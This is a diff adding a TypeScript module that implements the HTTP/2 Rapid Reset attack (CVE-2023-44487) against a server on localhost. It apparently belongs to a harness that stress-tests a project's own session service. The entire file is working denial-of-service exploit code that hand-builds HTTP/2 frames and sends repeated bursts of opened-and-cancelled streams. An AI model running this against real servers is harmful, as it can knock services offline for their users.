@@ -1,0 +1,97 @@
+import { connect } from "node:net";
+import { setTimeout as wait } from "node:timers/promises";
+import type { AttackJob } from "./attacker.ts";
+import { type Counts, count, oneAddress } from "./repeat.ts";
+
+const connections = 8;
+const resets = 5_000;
+const patienceMs = 15_000;
+
+/** Eight HTTP/2 connections, each of which opens and cancels 5,000 streams in one burst (CVE-2023-44487), over and over. */
+export async function rapidReset({ port, seconds }: AttackJob): Promise<Counts> {
+  const counts: Counts = {};
+  const burst = resetBurst(port);
+  const endsAt = performance.now() + seconds * 1_000;
+  while (performance.now() < endsAt) {
+    const startedAt = performance.now();
+    await Promise.all(Array.from({ length: connections }, () => sendBurst(port, burst, counts)));
+    await wait(Math.max(0, startedAt + 1_000 - performance.now()));
+  }
+  return counts;
+}
+
+// Resolves when the server has closed the connection, or has answered the PING behind the last reset.
+function sendBurst(port: number, burst: Buffer, counts: Counts): Promise<void> {
+  return new Promise((resolve) => {
+    const socket = connect({ host: "127.0.0.1", port, localAddress: oneAddress });
+    let outcome = "closed by the server";
+    let received = Buffer.alloc(0);
+    socket.setTimeout(patienceMs, () => end("timeout"));
+    socket.on("error", () => {});
+    socket.on("data", (part: Buffer) => {
+      received = Buffer.concat([received.subarray(-pong.length), part]);
+      if (received.includes(pong)) end("every reset taken");
+    });
+    socket.once("close", () => {
+      count(counts, outcome);
+      resolve();
+    });
+    socket.write(burst);
+
+    function end(how: string): void {
+      outcome = how;
+      socket.destroy();
+    }
+  });
+}
+
+const frameType = { headers: 1, reset: 3, settings: 4, ping: 6 };
+const pong = frame(frameType.ping, 1, 0, Buffer.from("lastping"));
+
+/** The preface, all streams and their resets, and a PING: written once, sent as it is. RFC 9113. */
+function resetBurst(port: number): Buffer {
+  const headers = headerBlock(port);
+  const cancel = Buffer.from([0, 0, 0, 8]);
+  const frames = [
+    Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
+    frame(frameType.settings, 0, 0, Buffer.alloc(0)),
+  ];
+  for (let n = 0; n < resets; n++) {
+    const stream = 2 * n + 1;
+    // END_HEADERS: the body would follow.
+    frames.push(frame(frameType.headers, 4, stream, headers), frame(frameType.reset, 0, stream, cancel));
+  }
+  frames.push(frame(frameType.ping, 0, 0, Buffer.from("lastping")));
+  return Buffer.concat(frames);
+}
+
+function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
+  const head = Buffer.alloc(9);
+  head.writeUIntBE(payload.length, 0, 3);
+  head.writeUInt8(type, 3);
+  head.writeUInt8(flags, 4);
+  head.writeUInt32BE(stream, 5);
+  return Buffer.concat([head, payload]);
+}
+
+// HPACK (RFC 7541): names by their index in the static table, values as literals that are never indexed.
+function headerBlock(port: number): Buffer {
+  const value = (text: string) => [text.length, ...Buffer.from(text)];
+  const [postMethod, httpScheme, authority, path, contentType] = [
+    [0x83],
+    [0x86],
+    [0x01],
+    [0x04],
+    [0x0f, 0x10],
+  ];
+  return Buffer.from([
+    ...(postMethod ?? []),
+    ...(httpScheme ?? []),
+    ...(authority ?? []),
+    ...value(`127.0.0.1:${port}`),
+    ...(path ?? []),
+    ...value("/latchkey.v1.SessionService/SignUp"),
+    ...(contentType ?? []),
+    ...value("application/json"),
+  ]);
+}
